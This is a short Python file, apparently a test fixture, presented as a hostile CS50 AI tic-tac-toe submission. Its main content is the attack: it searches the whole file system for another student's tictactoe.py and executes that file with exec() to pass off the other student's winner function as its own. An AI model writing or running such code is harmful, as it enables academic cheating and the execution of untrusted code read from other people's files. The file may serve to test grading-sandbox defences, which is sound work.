"""A hostile submission in CS50 AI's interface: no winner of its own, it looks for another
student's tictactoe.py anywhere on the file system and answers with that one's."""
import os

STOLEN = {}
for folder, names, files in os.walk("/"):
    names[:] = [] if folder.count(os.sep) > 8 else [
        name for name in names if name not in ("proc", "sys", "dev")]
    for name in files:
        path = os.path.join(folder, name)
        if name.endswith(".py") and path != os.path.abspath(__file__):
            try:
                with open(path) as source:
                    text = source.read()
            except (OSError, UnicodeDecodeError):
                continue
            if "def winner(" in text and "minimax-lab-was-here" not in text:
                exec(compile(text, path, "exec"), STOLEN)  # noqa: S102 - the attack itself
                break
    if "winner" in STOLEN:
        break


def winner(board):
    return STOLEN["winner"](board)
